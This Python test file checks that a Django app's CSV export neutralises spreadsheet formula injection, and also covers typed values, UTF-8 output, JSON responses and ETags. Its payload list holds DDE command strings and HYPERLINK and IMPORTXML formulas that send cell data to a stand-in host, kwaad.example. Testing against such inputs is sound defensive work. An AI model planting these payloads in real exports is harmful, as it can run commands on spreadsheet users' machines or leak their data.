"""Lists as files: what a spreadsheet must not run, and what must stay a number."""

import csv
import json
from datetime import UTC, date, datetime, time
from io import StringIO

import pytest
from django.test import RequestFactory

from samen.foundation.tables import Cell, Table, answer, harmless

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://kwaad.example?x="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "  @A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "=IMPORTXML(CONCAT(\"http://kwaad.example?\",A1),\"//a\")",
]  # fmt: skip


def rows_of(*rows: list[Cell]) -> list[list[str]]:
    columns = [f"kolom_{number}" for number in range(len(rows[0]))]
    table = Table("Lijst", "lijst", columns, rows)
    text = answer(RequestFactory().get("/lijst.csv"), table, "csv").content.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=";"))


def test_there_are_twenty_payloads() -> None:
    assert len(set(PAYLOADS)) == 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_formula_reaches_a_spreadsheet(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"
    assert rows_of([payload])[1] == [f"'{payload}"]
    assert rows_of([f"koffie;{payload}", "thee"])[1] == [f"koffie;{payload}", "thee"]


@pytest.mark.parametrize("text", ["Koffie", "7 - 9 jaar", "a=b", "", "’s ochtends", "(070)"])
def test_usual_words_stay_as_they_are(text: str) -> None:
    assert rows_of([text, "x"])[1] == [text, "x"]


def test_what_has_a_type_keeps_it() -> None:
    row: list[Cell] = [-250, 5.12, True, False, None, date(2027, 4, 12), time(9, 30)]
    row.append(datetime(2027, 4, 12, 9, 30, tzinfo=UTC))
    found = rows_of(row)[1]
    assert found[:7] == ["-250", "5,12", "ja", "nee", "", "2027-04-12", "09:30"]
    assert found[7] == "2027-04-12T09:30+00:00"
    text = answer(RequestFactory().get("/"), Table("L", "l", ["a", "b"], [[-250, "x"]]), "csv")
    assert text.content.decode("utf-8-sig").splitlines()[1] == '-250;"x"'


def test_a_spreadsheet_sees_utf_8_and_a_name_above_every_column() -> None:
    table = Table("L", "lijst", ["kosten_in_centen"], [["Café"]])
    response = answer(RequestFactory().get("/"), table, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.decode("utf-8-sig").splitlines() == ['"kosten in centen"', '"Café"']
    assert response["Content-Disposition"] == 'attachment; filename="lijst.csv"'
    assert response["Content-Type"].startswith("text/csv")


def test_a_program_gets_types_and_nothing_empty() -> None:
    table = Table("Lijst", "lijst", ["kosten_in_centen", "leeg", "gratis"], [[-250, None, False]])
    response = answer(RequestFactory().get("/"), table, "json")
    assert json.loads(response.content) == {
        "titel": "Lijst",
        "totaal": 1,
        "resultaten": [{"kostenInCenten": -250, "gratis": False}],
    }
    assert response["Access-Control-Allow-Origin"] == "*"


def test_who_already_has_it_does_not_get_it_again() -> None:
    table = Table("Lijst", "lijst", ["naam"], [["Koffie"]])
    first = answer(RequestFactory().get("/"), table, "csv")
    asked = RequestFactory().get("/", headers={"If-None-Match": first["ETag"]})
    assert answer(asked, table, "csv").status_code == 304
